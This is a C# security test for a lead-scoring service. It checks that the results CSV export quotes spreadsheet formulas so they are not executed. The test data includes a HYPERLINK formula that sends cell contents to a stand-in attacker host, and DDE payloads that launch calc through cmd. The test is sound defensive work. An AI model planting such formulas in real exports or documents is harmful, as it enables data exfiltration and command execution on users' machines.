using System.Globalization;
using System.Text;
using CsvHelper;
using LeadScoring.Functions.Tests.Support;
using LeadScoring.Scoring.Csv;
using LeadScoring.Testing;
using Microsoft.AspNetCore.Http;

namespace LeadScoring.Functions.Tests.Security;

/// <summary>
/// Spreadsheet formulas typed into every lead column (and returned by the model as its reason) come out of
/// <c>GET /results/export</c> as text: no exported text cell starts with = + - @ tab or CR.
/// </summary>
public sealed class ExportFormulaInjectionTests(AzuriteFixture azurite) : IDisposable
{
    private static readonly string[] Prefixes = ["=", "+", "-", "@"];
    private static readonly string[] LeadColumns = ["name", "role", "company", "industry", "location", "linkedin_bio"];
    private static readonly HashSet<string> NumericColumns = ["score", "role_points", "industry_points", "completeness_points", "ai_points", "ai_confidence"];
    private readonly GeminiStandIn gemini = new();

    [Fact(Timeout = 120_000)]
    public async Task Export_neutralises_formulas_in_every_text_column()
    {
        gemini.Reply(GeminiReply.Intent("High", 0.9, "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")"));
        await using var app = await TestApp.StartAsync(azurite, gemini.Settings(("Gemini:TimeoutSeconds", "30"), ("Gemini:TotalTimeoutSeconds", "60")));
        await app.CreateOfferIdAsync();
        var upload = (await app.UploadAsync(HostileCsv())).AssertStatus(StatusCodes.Status201Created).Json();
        Assert.Equal(Prefixes.Length * LeadColumns.Length, upload.GetProperty("inserted").GetInt32());
        await app.StartRunAsync();
        await app.ProcessQueuesAsync();

        var export = (await app.ExportResultsAsync()).AssertStatus(StatusCodes.Status200OK);

        var rows = Parse(export.Body);
        Assert.Equal(Prefixes.Length * LeadColumns.Length, rows.Count);
        var textCells = rows.SelectMany(row => row.Where(cell => !NumericColumns.Contains(cell.Key))).ToList();
        Assert.All(textCells, cell => Assert.False(
            cell.Value.Length > 0 && "=+-@\t\r".Contains(cell.Value[0], StringComparison.Ordinal),
            $"{cell.Key} starts a formula: {cell.Value}"));
        // Kept as text, not dropped: each payload is there behind the neutralising quote.
        foreach (var prefix in Prefixes)
        {
            foreach (var column in new[] { "name", "role", "company", "industry", "location" })
            {
                Assert.Contains(rows, row => row[column] == "'" + Payload(prefix, column));
            }
        }

        Assert.All(rows, row => Assert.StartsWith("'=HYPERLINK(", row["reasoning"], StringComparison.Ordinal));
    }

    public void Dispose() => gemini.Dispose();

    private static string Payload(string prefix, string column) => prefix + "cmd|' /C calc'!A0+" + column;

    /// <summary>One lead per prefix and column, with the formula in that column and plain values elsewhere.</summary>
    private static string HostileCsv()
    {
        // A distinct email a row: the payloads differ only in punctuation, so by name and company they are one person.
        var csv = new StringBuilder(string.Join(",", LeadColumns)).Append(",email\n");
        var n = 0;
        foreach (var prefix in Prefixes)
        {
            foreach (var column in LeadColumns)
            {
                n++;
                var values = LeadColumns.Select(c => c == column ? Payload(prefix, c) : c == "name" ? $"Lead {n}" : c == "role" ? "CEO" : c == "industry" ? "saas" : "Plain");
                csv.AppendJoin(",", values.Select(v => "\"" + v.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"")).Append($",lead{n}@example.com\n");
            }
        }

        return csv.ToString();
    }

    private static List<Dictionary<string, string>> Parse(string body)
    {
        using var reader = new CsvReader(new StringReader(body), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        Assert.Equal(ResultCsvWriter.Columns, reader.HeaderRecord);
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(ResultCsvWriter.Columns.ToDictionary(column => column, column => reader.GetField(column)!));
        }

        return rows;
    }
}
